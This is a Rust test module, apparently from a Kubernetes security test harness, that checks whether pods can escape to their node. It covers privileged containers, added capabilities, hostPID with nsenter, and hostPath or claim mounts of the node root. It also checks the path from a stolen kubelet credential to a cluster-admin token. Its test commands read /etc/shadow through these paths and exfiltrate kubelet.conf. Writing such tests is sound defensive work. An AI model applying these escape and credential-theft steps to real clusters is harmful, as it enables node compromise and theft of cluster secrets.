//! From a container to its node, and from the node on: privileges, paths, sockets, the kubelet's credential.

use serde_json::{Value, json};

use super::ground::{Case, Ground, account, binding, container, miss, pod, spec, way};

const ROOT: &str = "node-root";

/// A pod `web` with something laid over its container and its specification.
fn web(me: &str, over: &Value, more: &Value) -> Vec<Value> {
    vec![pod(me, "web", &spec(&container(over), more))]
}

fn path(path: &str, mount: &Value) -> (Value, Value) {
    let mut mount = mount.clone();
    mount["name"] = json!("node");
    mount["mountPath"] = json!("/node");
    let user = json!({"runAsUser": 0});
    (
        json!({"volumeMounts": [mount], "securityContext": user}),
        json!({"volumes": [{"name": "node", "hostPath": {"path": path}}], "automountServiceAccountToken": false}),
    )
}

/// The objects of a pod `web` that mounts a claim, which is bound to a volume of a path of the node.
fn by_claim(me: &str, path: &str, mount: &Value) -> Vec<Value> {
    let size = json!({"storage": "1Gi"});
    let modes = json!(["ReadWriteMany"]);
    let mut mount = mount.clone();
    mount["name"] = json!("node");
    mount["mountPath"] = json!("/node");
    let over = json!({"volumeMounts": [mount], "securityContext": {"runAsUser": 0}});
    let volumes = json!([{"name": "node", "persistentVolumeClaim": {"claimName": "node"}}]);
    let more = json!({"volumes": volumes, "automountServiceAccountToken": false});
    vec![
        json!({"apiVersion": "v1", "kind": "PersistentVolume", "metadata": {"name": me}, "spec": {"capacity": size,
            "accessModes": modes, "hostPath": {"path": path}, "claimRef": {"namespace": me, "name": "node"}}}),
        json!({"apiVersion": "v1", "kind": "PersistentVolumeClaim", "metadata": {"namespace": me, "name": "node"},
            "spec": {"accessModes": modes, "storageClassName": "", "volumeName": me, "resources": {"requests": size}}}),
        pod(me, "web", &spec(&container(&over), &more)),
    ]
}

/// The same where the pod brings the claim along.
fn brought(me: &str, path: &str) -> Vec<Value> {
    let mut objects = by_claim(me, path, &json!({}));
    let claim = objects.remove(1);
    objects[0]["spec"]["claimRef"]["name"] = json!("web-node");
    let template = json!({"volumeClaimTemplate": {"spec": claim["spec"]}});
    objects[1]["spec"]["volumes"] = json!([{"name": "node", "ephemeral": template}]);
    objects
}

fn in_web(ground: &Ground, me: &str, script: &str) -> seaworthy_bed::Output {
    ground.cluster.exec(me, "web", "app", &["sh", "-c", script])
}

pub fn cases() -> Vec<Case> {
    let bare = json!({"automountServiceAccountToken": false});
    let cap = |name: &str| json!({"securityContext": {"runAsUser": 0, "capabilities": {"add": [name]}}});
    let own = |more: &Value| {
        let mut all = bare.clone();
        super::ground::lay(&mut all, more);
        all
    };
    let files = |of: &str, mount: &Value, me: &str| {
        let (over, more) = path(of, mount);
        web(me, &over, &more)
    };
    let shadow = |ground: &Ground, me: &str| {
        let out = in_web(ground, me, "cat /node/etc/shadow");
        assert!(out.status == 0 && out.stdout.starts_with("root:"), "{out:?}");
    };
    let cannot = |ground: &Ground, me: &str| {
        let process = ground.cluster.pids()["kubelet"];
        assert_ne!(
            in_web(ground, me, &format!("cat /node/etc/shadow || cat /proc/{process}/root/etc/shadow")).status,
            0
        );
    };
    let is_root = |ground: &Ground, me: &str, bit: u32| {
        let out = in_web(ground, me, "grep CapEff /proc/self/status");
        let held =
            u64::from_str_radix(out.stdout.split_whitespace().last().unwrap_or_default(), 16).unwrap_or_default();
        assert!(held & (1 << bit) != 0, "{out:?}");
    };
    let mut user = files("/", &json!({}), "path-user");
    user[0]["spec"]["containers"][0]["securityContext"] = json!({"runAsUser": 1000});
    vec![
        way(
            "privileged",
            ROOT,
            web("privileged", &json!({"securityContext": {"privileged": true}}), &bare),
            &["pod-privileged"],
            move |g, me| is_root(g, me, 21),
        )
        .out_of_pod("web"),
        way(
            "privileged-pid",
            ROOT,
            web("privileged-pid", &json!({"securityContext": {"privileged": true}}), &own(&json!({"hostPID": true}))),
            &["pod-privileged"],
            |ground, me| {
                // Into the namespaces of one of the node's own processes.
                let out = in_web(
                    ground,
                    me,
                    &format!("nsenter -t {} -m -- cat /etc/shadow", ground.cluster.pids()["kubelet"]),
                );
                assert!(out.status == 0 && out.stdout.starts_with("root:"), "{out:?}");
            },
        )
        .out_of_pod("web"),
        // Another user than root has none of the capabilities at hand, and the devices are root's.
        miss(
            "privileged-user",
            ROOT,
            web("privileged-user", &json!({"securityContext": {"privileged": true, "runAsUser": 1000}}), &bare),
            |ground, me| {
                let out =
                    in_web(ground, me, "grep CapEff /proc/self/status; cat /dev/vda /dev/sda | head -c 1 | wc -c");
                let words: Vec<&str> = out.stdout.split_whitespace().collect();
                assert_eq!(words, ["CapEff:", "0000000000000000", "0"], "{out:?}");
            },
        )
        .out_of_pod("web"),
        way("sys-admin", ROOT, web("sys-admin", &cap("SYS_ADMIN"), &bare), &["pod-node-root"], move |g, me| {
            is_root(g, me, 21)
        })
        .out_of_pod("web"),
        way(
            "ptrace-pid",
            ROOT,
            web("ptrace-pid", &cap("SYS_PTRACE"), &own(&json!({"hostPID": true}))),
            &["pod-node-root"],
            |ground, me| {
                let out =
                    in_web(ground, me, &format!("cat /proc/{}/root/etc/shadow", ground.cluster.pids()["kubelet"]));
                assert!(out.status == 0 && out.stdout.starts_with("root:"), "{out:?}");
            },
        )
        .out_of_pod("web"),
        way("path-root", ROOT, files("/", &json!({}), "path-root"), &["pod-decisive-path"], shadow).out_of_pod("web"),
        way("claim-root", ROOT, by_claim("claim-root", "/", &json!({})), &["pod-decisive-claim"], shadow)
            .out_of_pod("web"),
        way("claim-brought", ROOT, brought("claim-brought", "/"), &["pod-decisive-claim"], shadow).out_of_pod("web"),
        miss("claim-brought-plain", ROOT, brought("claim-brought-plain", "/srv"), cannot).out_of_pod("web"),
        miss(
            "claim-read-alone",
            ROOT,
            by_claim("claim-read-alone", "/etc", &json!({"readOnly": true})),
            |ground, me| assert_ne!(in_web(ground, me, "touch /node/seaworthy").status, 0),
        )
        .out_of_pod("web"),
        // Read alone it is no root; what lies there is another matter.
        miss("path-read", ROOT, files("/etc", &json!({"readOnly": true}), "path-read"), |ground, me| {
            assert_ne!(in_web(ground, me, "touch /node/seaworthy").status, 0)
        })
        .out_of_pod("web"),
        miss("path-user", ROOT, user, cannot).out_of_pod("web"),
        miss(
            "path-tmp",
            ROOT,
            files("/opt/seaworthy-paths-none", &json!({}), "path-tmp").into_iter().map(directory).collect(),
            cannot,
        )
        .out_of_pod("web"),
        miss(
            "host-pid",
            ROOT,
            web("host-pid", &json!({"securityContext": {"runAsUser": 0}}), &own(&json!({"hostPID": true}))),
            cannot,
        )
        .out_of_pod("web"),
        miss(
            "host-network",
            ROOT,
            web(
                "host-network",
                &json!({"securityContext": {"runAsUser": 0}}),
                &own(&json!({"hostNetwork": true, "hostIPC": true})),
            ),
            cannot,
        )
        .out_of_pod("web"),
        miss("net-admin", ROOT, web("net-admin", &cap("NET_ADMIN"), &bare), cannot).out_of_pod("web"),
        miss(
            "users-apart",
            ROOT,
            web("users-apart", &json!({"securityContext": {"runAsUser": 0, "allowPrivilegeEscalation": false}}), &bare),
            cannot,
        )
        .out_of_pod("web"),
    ]
}

/// What need not be there.
fn directory(mut pod: Value) -> Value {
    pod["spec"]["volumes"][0] = json!({"name": "node", "emptyDir": {}});
    pod
}

/// From root on the node to whoever runs there.
pub fn beyond() -> Vec<Case> {
    let subject = json!({"kind": "ServiceAccount", "namespace": "node-tokens", "name": "boss"});
    let mut boss = spec(&container(&json!({})), &json!({"serviceAccountName": "boss"}));
    let (over, more) = path("/", &json!({}));
    super::ground::lay(&mut boss, &json!({}));
    let objects = vec![
        account("node-tokens", "boss"),
        binding("ClusterRoleBinding", json!({"name": "node-tokens"}), "ClusterRole", "cluster-admin", &[subject]),
        pod("node-tokens", "boss", &boss),
        pod("node-tokens", "web", &spec(&container(&over), &more)),
    ];
    const STEPS: &[&str] =
        &["pod-decisive-path", "node-kubelet-credential", "kubelet-pod-tokens", "pod-token-identity", "may-everything"];
    let case = way("node-tokens", "cluster-admin", objects, STEPS, |ground, me| {
        // The kubelet's credential as it lies on the node, then a token of the account of a pod that runs there.
        let conf = ground.cluster.dir().join("etc/kubernetes/kubelet.conf");
        let uid = ground.cluster.get(&format!("/api/v1/namespaces/{me}/pods/boss")).1["metadata"]["uid"]
            .as_str()
            .unwrap()
            .to_owned();
        let read = in_web(ground, me, &format!("cat /node{}", conf.display()));
        assert!(read.status == 0 && read.stdout.contains("client-"), "{}", read.stderr);
        let stolen = ground.sea.write("kubelet.conf", &read.stdout);
        let ask = |account: &str| {
            let arguments = [
                "create",
                "token",
                account,
                "-n",
                me,
                "--bound-object-kind",
                "Pod",
                "--bound-object-name",
                "boss",
                "--bound-object-uid",
                &uid,
            ];
            ground.cluster.kubectl_as(&stolen, &arguments, b"")
        };
        let token = ask("boss");
        assert_eq!(token.status, 0, "{token:?}");
        assert_eq!(
            ground.cluster.client_with_token(token.stdout.trim()).get("/api/v1/namespaces/kube-system/secrets").0,
            200
        );
        // Of an account that no pod of the node runs as there is none.
        assert_ne!(ask("default").status, 0);
    });
    vec![case.out_of_pod("web")]
}
